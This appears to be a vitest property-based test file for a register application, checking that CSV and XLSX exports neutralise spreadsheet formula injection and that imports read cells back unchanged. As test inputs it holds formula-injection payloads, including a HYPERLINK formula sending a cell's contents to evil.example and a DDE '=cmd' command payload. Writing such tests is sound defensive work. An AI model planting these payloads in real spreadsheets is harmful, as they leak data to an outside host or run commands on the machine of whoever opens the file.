import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { guardFormula, startsLikeFormula, unguardFormula } from '@prt/domain/formulaGuard';
import { toCsv } from '@prt/functions/export/csvFile.js';
import { toXlsx } from '@prt/functions/export/xlsxFile.js';
import { parseDelimited } from '@prt/functions/import/delimitedText.js';
import { readXlsxRows } from '@prt/functions/import/spreadsheet.js';
import { parseRegisterFile } from '@prt/functions/import/registerFile.js';
import { decodeText } from '@prt/functions/import/textDecoding.js';
import { registerTable } from '@prt/functions/export/registerTable.js';
import { validateProcessingContent } from '@prt/domain/validation';
import { processingInput } from '@prt/domain/testing/processingFixtures';
import type { Processing } from '@prt/domain/processing';

// Cells as a register might hold them: ordinary text, and text that begins with a formula trigger or with the guard itself.
const trigger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''", '=HYPERLINK("http://evil.example","x")', '@SUM(A1)', '-2+3', '+46 8 123');
const cell = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.tuple(trigger, fc.string({ maxLength: 12 })).map(([t, s]) => t + s),
);
const table = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 6 });

/** Every text cell of the first sheet as the file holds it, read from the XML with another zip reader than the exporter's. */
async function sheetCells(bytes: Buffer): Promise<{ texts: string[]; formulas: number }> {
  const zip = await JSZip.loadAsync(bytes);
  const sheet = (await zip.file('xl/worksheets/sheet1.xml')?.async('string')) ?? '';
  const shared = (await zip.file('xl/sharedStrings.xml')?.async('string')) ?? '';
  const decode = (xml: string) =>
    xml.replace(/&(lt|gt|amp|quot|apos|#x[0-9a-f]+|#\d+);/gi, (_, e: string) =>
      e === 'lt'
        ? '<'
        : e === 'gt'
          ? '>'
          : e === 'amp'
            ? '&'
            : e === 'quot'
              ? '"'
              : e === 'apos'
                ? "'"
                : String.fromCodePoint(Number(e.startsWith('#x') ? `0x${e.slice(2)}` : e.slice(1))),
    );
  const texts = [...`${shared}${sheet}`.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>/g)].map((m) =>
    decode(m[1]!)
      .replace(/_x000d_/gi, '\r')
      .replace(/_x0009_/gi, '\t'),
  );
  return { texts, formulas: (sheet.match(/<f[\s>]/g) ?? []).length };
}

describe('spreadsheet formula injection', () => {
  it('guards exactly the cells a spreadsheet would run, and unguarding restores them', () => {
    fc.assert(
      fc.property(cell, (text) => {
        const guarded = guardFormula(text);
        expect(startsLikeFormula(guarded)).toBe(false);
        expect(unguardFormula(guarded)).toBe(text);
        if (!startsLikeFormula(text) && !text.startsWith("'")) expect(guarded).toBe(text);
      }),
      { numRuns: 5000 },
    );
  });

  it('CSV: csv-parse sees no cell that begins like a formula, and the importer reads every cell back as it was', () => {
    fc.assert(
      fc.property(table, (rows) => {
        const bytes = toCsv({ headers: ['a', 'b', 'c'], rows });
        const text = decodeText(bytes).text;
        const independent: string[][] = parse(text, { delimiter: ';', bom: true, relax_column_count: true });
        for (const row of independent) for (const c of row) expect(startsLikeFormula(c), JSON.stringify(c)).toBe(false);
        const imported = parseDelimited(text, ';').map((r) => r.cells.map(unguardFormula));
        expect(imported).toEqual([['a', 'b', 'c'], ...rows]);
      }),
      { numRuns: 300 },
    );
  });

  it('XLSX: the sheet XML holds no formula and no text that begins like one, and the importer reads every cell back as it was', async () => {
    await fc.assert(
      fc.asyncProperty(table, async (rows) => {
        // XML cannot hold most control characters and turns CR into LF; the exporter only ever writes validated
        // text, which has neither (line breaks are stored as LF).
        // eslint-disable-next-line no-control-regex -- removing control characters is the point
        const clean = rows.map((r) => r.map((c) => c.replace(/\r\n?/g, '\n').replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, '')));
        const bytes = await toXlsx({ headers: ['a', 'b', 'c'], rows: clean }, 'Register');
        const { texts, formulas } = await sheetCells(bytes);
        expect(formulas).toBe(0);
        for (const t of texts) expect(startsLikeFormula(t), JSON.stringify(t)).toBe(false);
        // Empty rows and trailing empty cells carry nothing; whether the writer stores them is its own business.
        const meaningful = (rs: string[][]) =>
          rs
            .map((r) => {
              const out = [...r];
              while (out.length && out.at(-1) === '') out.pop();
              return out;
            })
            .filter((r) => r.length);
        const imported = (await readXlsxRows(bytes)).map((r) => r.cells.map(unguardFormula));
        expect(meaningful(imported)).toEqual(meaningful([['a', 'b', 'c'], ...clean]));
      }),
      { numRuns: 60 },
    );
  });

  it('a processing named like a formula leaves and comes back through both formats unchanged', async () => {
    const names = ['=HYPERLINK("http://evil.example/?d="&A2,"Öppna")', '-Lönehantering', "'=citerad", '@Rekrytering', '+46 nummerupplysning'];
    const processings = names.map((name, i) => {
      const result = validateProcessingContent(processingInput({ name, organisationUnit: '=cmd|"/c calc"!A1', securityMeasures: ['-Kryptering'] }));
      if (!result.ok) throw new Error(JSON.stringify(result.errors));
      return { ...result.value, id: `p${i}`, tenantId: 't', status: 'approved', version: 1 } as unknown as Processing;
    });
    const exported = registerTable(processings, 'sv');
    for (const bytes of [toCsv(exported), await toXlsx(exported, 'Register')]) {
      const parsed = await parseRegisterFile(bytes);
      expect(parsed.rejected).toEqual([]);
      expect(parsed.processings.map((p) => p.content.name)).toEqual(names);
      expect(parsed.processings.map((p) => p.content.organisationUnit)).toEqual(names.map(() => '=cmd|"/c calc"!A1'));
      expect(parsed.processings.map((p) => p.content.securityMeasures)).toEqual(names.map(() => ['-Kryptering']));
    }
  });
});
